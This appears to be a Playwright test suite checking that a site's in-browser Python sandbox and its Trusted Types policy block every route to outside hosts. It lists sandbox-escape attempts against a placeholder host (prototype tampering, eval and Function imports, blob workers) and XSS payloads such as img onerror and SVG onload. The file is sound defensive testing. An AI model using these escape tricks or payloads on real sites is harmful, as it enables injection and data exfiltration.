"""Code on the page and in its workers can reach this site's own files, and no other host in any way."""

from __future__ import annotations

import socketserver
import textwrap
import threading
from collections.abc import Callable, Iterator
from typing import TYPE_CHECKING

import pytest

from tests.browsing.inside import RUN, page_with_python
from tests.browsing.site import IS_STOCK, SITE, Host, soon, wait_until_kept
from tests.site.table.test_play import RECORDS
from web.drawing.palette import colour_of, variable
from web.pictures import pictures
from web.pictures.shared_picture import SharedPicture
from web.tree.table import Table
from web.views.catalogue import game_ids, view_of

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page, Worker


class OtherHost(socketserver.ThreadingTCPServer):
    """Another origin that allows requests from every page, and records the first line of each."""

    daemon_threads = True

    def __init__(self) -> None:
        self.arrived: list[str] = []
        super().__init__(("127.0.0.1", 0), Answer)
        self.name = f"127.0.0.1:{self.server_address[1]}"
        threading.Thread(target=self.serve_forever, daemon=True).start()


class Answer(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        asked = self.request.recv(4096)
        if asked:
            self.server.arrived.append(asked.decode("latin-1").partition("\r\n")[0])  # type: ignore[attr-defined]
            head = "HTTP/1.0 200 OK\r\nContent-Type: text/javascript\r\nAccess-Control-Allow-Origin: *\r\n\r\n"
            self.request.sendall(head.encode())


@pytest.fixture(scope="module")
def other() -> Iterator[OtherHost]:
    host = OtherHost()
    yield host
    host.shutdown()
    host.server_close()


@pytest.fixture(scope="module")
def page(browser: Browser, host: Host) -> Page:
    """Returns a page that is not watched, because refusals are errors."""
    return page_with_python(browser, host)


@pytest.fixture(scope="module")
def worker(page: Page) -> Worker:
    (found,) = page.workers
    return found


ATTEMPTS = {
    "fetch": "await js.fetch('http://OTHER/fetch')",
    "fetch without CORS": "await js.fetch('http://OTHER/no-cors', to_js({'mode': 'no-cors'}))",
    "fetch with false strings": """
        true = js.String.prototype.startsWith
        js.String.prototype.startsWith = js.Array.isArray.bind(None, js.Array.new())
        try:
            await js.fetch('http://OTHER/false-strings')
        finally:
            js.String.prototype.startsWith = true""",
    "an inherited fetch": """
        owner = js.self
        while owner:
            found = js.Object.getOwnPropertyDescriptor(owner, 'fetch')
            if found and found.value:
                try:
                    await found.value.call(js.self, 'http://OTHER/inherited')
                except Exception as error:
                    print(error)
            owner = js.Object.getPrototypeOf(owner)""",
    "pyfetch": "await __import__('pyodide.http').http.pyfetch('http://OTHER/pyfetch')",
    "open_url": "__import__('pyodide.http').http.open_url('http://OTHER/open-url')",
    "urlopen": "__import__('urllib.request').request.urlopen('http://OTHER/urlopen')",
    "a package": "await __import__('pyodide_js').loadPackage('http://OTHER/package-1.0-py3-none-any.whl')",
    "XMLHttpRequest": """
        request = js.XMLHttpRequest.new()
        request.open('GET', 'http://OTHER/xhr', False)
        request.send()""",
    "WebSocket": "js.WebSocket.new('ws://OTHER/socket')",
    "EventSource": "js.EventSource.new('http://OTHER/events')",
    "WebTransport": "await js.WebTransport.new('https://OTHER/transport').ready",
    "sendBeacon": "js.navigator.sendBeacon('http://OTHER/beacon', '')",
    "importScripts": "js.importScripts('http://OTHER/import-scripts')",
    "eval": "await js.eval('import(\\'http://OTHER/eval\\')')",
    "run_js": "await __import__('pyodide.code').code.run_js('import(\\'http://OTHER/run-js\\')')",
    "Function": "await js.Function.new('return import(\\'http://OTHER/function\\')')()",
    "a constructor": """
        one = __import__('pyodide_js').runPythonAsync
        await one.constructor.new('return import(\\'http://OTHER/constructor\\')')()""",
    "a timer": "js.setTimeout('import(\\'http://OTHER/timer\\')')",
    "a worker elsewhere": "js.Worker.new('http://OTHER/worker')",
    "a worker from text": """
        text = "fetch('http://OTHER/from-text', { mode: 'no-cors' })"
        address = js.URL.createObjectURL(js.Blob.new(to_js([text])))
        trusted = js.trustedTypes.createPolicy('mazebox', to_js({'createScriptURL': create_proxy(lambda url, *_: url)}))
        js.Worker.new(trusted.createScriptURL(address))""",
    "a script of this site as a worker": """
        started = js.Worker.new(js.mazeboxTrust.createScriptURL('HERE/script'), type='module', name='memory.bin')
        started.postMessage('http://OTHER/memory')""",
    "a picture": "js.document.createElement('img').src = 'http://OTHER/picture'",
    "a script": """
        script = js.document.createElement('script')
        script.src = js.mazeboxTrust.createScriptURL('http://OTHER/script')
        js.document.head.append(script)""",
}
BEFORE = """
import js
from pyodide.ffi import create_proxy, to_js as plain_to_js
def to_js(value):
    return plain_to_js(value, dict_converter=js.Object.fromEntries)
"""


def attempt(page: Page | Worker, host: Host, other: OtherHost) -> dict[str, str]:
    """Returns the result of each attempt. Fails if a request has arrived."""
    (script,) = SITE.glob("enclosure-*.mjs" if IS_STOCK else "unpacking-*.mjs")
    other.arrived.clear()
    results = {}
    for name, code in ATTEMPTS.items():
        told = code.replace("OTHER", other.name).replace("HERE/script", host.url + script.name)
        results[name] = page.evaluate(RUN, BEFORE + textwrap.dedent(told))
    page.evaluate("() => new Promise((resolve) => setTimeout(resolve, 500))")  # some attempts do not wait themselves
    assert other.arrived == []
    return results


def test_the_other_host_counts_what_arrives(browser: Browser, host: Host, other: OtherHost) -> None:
    page = browser.new_page()
    page.goto(host.url + "licences.txt")  # a page without a policy
    page.evaluate("(name) => fetch(`http://${name}/counted`)", other.name)
    soon(page, lambda: len(other.arrived) == 1)
    page.close()
    assert other.arrived.pop() == "GET /counted HTTP/1.1"


def test_python_in_the_worker_reaches_no_other_host(worker: Worker, host: Host, other: OtherHost) -> None:
    results = attempt(worker, host, other)
    assert "is not of this site" in results["fetch"]
    assert "is not of this site" in results["fetch with false strings"]
    assert "Content Security Policy" in results["a constructor"]


def test_python_in_the_worker_is_left_nothing_but_what_it_needs(worker: Worker) -> None:
    names = (
        "XMLHttpRequest WebSocket WebSocketStream WebTransport EventSource Worker SharedWorker BroadcastChannel "
        "Request importScripts trustedTypes caches indexedDB cookieStore Notification FileReaderSync RTCPeerConnection"
    )
    assert worker.evaluate("(names) => names.filter((name) => name in globalThis)", names.split()) == []
    assert worker.evaluate("Object.keys(navigator)") == ["userAgent", "platform", "language", "onLine"]


def test_python_in_the_worker_reaches_this_sites_files(worker: Worker, host: Host) -> None:
    code = f"import js; (await js.fetch('{host.url}licences.txt')).status"
    assert worker.evaluate(RUN, code) == "200"
    outside = host.url.removesuffix("box/") + "other/"
    assert "is not of this site" in worker.evaluate(RUN, f"import js; await js.fetch('{outside}')")


def test_python_on_the_page_reaches_no_other_host(page: Page, host: Host, other: OtherHost) -> None:
    results = attempt(page, host, other)
    assert "is not of this site" in results["a script"]


FOREIGN = {
    "a script": "<script>alert(1)</script>",
    "an event": "<img src=x onerror=alert(1)>",
    "a drawing's event": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>',
    "an element's event": '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0" ONCLICK="alert(1)"/></svg>',
    "a script in a drawing": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "HTML in a drawing": '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><p>1</p></foreignObject></svg>',
    "a style": '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(//other.test)</style></svg>',
    "a link": '<svg xmlns="http://www.w3.org/2000/svg"><a href="//other.test"><text>1</text></a></svg>',
    "a picture": '<svg xmlns="http://www.w3.org/2000/svg"><image href="//other.test/1.png"/></svg>',
    "a part from elsewhere": '<svg xmlns="http://www.w3.org/2000/svg"><use href="//other.test/1.svg#a"/></svg>',
    "another gradient": '<svg xmlns="http://www.w3.org/2000/svg"><radialGradient href="//other.test#a"/></svg>',
    "another paint": '<svg xmlns="http://www.w3.org/2000/svg"><path fill="url(//other.test#a)"/></svg>',
    "an escaped paint": '<svg xmlns="http://www.w3.org/2000/svg"><path fill="u\\72l(//other.test#a)"/></svg>',
    "an encoded paint": '<svg xmlns="http://www.w3.org/2000/svg"><path fill="&#117;rl(//other.test#a)"/></svg>',
    "an animation": '<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="href" to="//other.test"/></svg>',
    "another namespace": '<svg xmlns="http://www.w3.org/1999/xhtml"></svg>',
    "an entity": '<!DOCTYPE svg [<!ENTITY a "1">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
    "a comment": '<svg xmlns="http://www.w3.org/2000/svg"><!-- --></svg>',
    "a drawing and more": '<svg xmlns="http://www.w3.org/2000/svg"></svg><img src=x onerror=alert(1)>',
    "no drawing": "nothing",
}
"""Texts that the page's painter does not write."""


@pytest.mark.parametrize("kind", FOREIGN)
def test_the_page_vouches_for_no_foreign_text(page: Page, kind: str) -> None:
    vouch = """(text) => {
        try {
            return String(mazeboxTrust.createHTML(text));
        } catch (error) {
            return error.name;
        }
    }"""
    assert page.evaluate(vouch, FOREIGN[kind]) == "TypeError"


@pytest.mark.parametrize("game_id", game_ids())
def test_the_page_vouches_for_every_drawing_of_its_own(page: Page, game_id: str) -> None:
    record = RECORDS[game_id]
    table = Table(record, [f'<O\'Neil & "Ann"> url({seat})' for seat in range(record.start.seats)])
    shared = SharedPicture(table).svg(colour_of(True, view_of(game_id).look.palette))
    kept = pictures.board_svg(table.position, variable, "g1-", last=table.last)
    for drawing in (shared, kept):
        assert page.evaluate("(text) => String(mazeboxTrust.createHTML(text))", drawing) == drawing


def test_the_page_vouches_for_no_script_from_elsewhere(page: Page) -> None:
    vouch = """(address) => {
        try {
            return String(mazeboxTrust.createScriptURL(address));
        } catch (error) {
            return error.name;
        }
    }"""
    for address in ("https://other.test/a.js", "//other.test/a.js", "data:text/javascript,1", "javascript:1"):
        assert page.evaluate(vouch, address) == "TypeError"
    made = page.evaluate("URL.createObjectURL(new Blob(['alert(1)'], { type: 'text/javascript' }))")
    assert page.evaluate(vouch, made) == "TypeError"


def test_the_service_worker_reaches_no_other_host(open_page: Callable[..., Page], host: Host, other: OtherHost) -> None:
    page = open_page(service_workers="allow")
    page.goto(host.url + "rules.html")
    page.evaluate(
        "navigator.serviceWorker.register(mazeboxTrust.createScriptURL('service-worker.js')).then(() => null)"
    )
    wait_until_kept(page)
    (worker,) = page.context.service_workers
    ask = "(address) => fetch(address).then(({ status }) => status, String)"
    assert "is not of this site" in worker.evaluate(ask, f"http://{other.name}/")
    assert worker.evaluate(ask, host.url + "rules.html") == 200
    names = [
        "XMLHttpRequest",
        "WebSocket",
        "WebTransport",
        "EventSource",
        "importScripts",
        "BroadcastChannel",
        "indexedDB",
    ]
    assert worker.evaluate("(names) => names.filter((name) => name in globalThis)", names) == []
    assert other.arrived == []
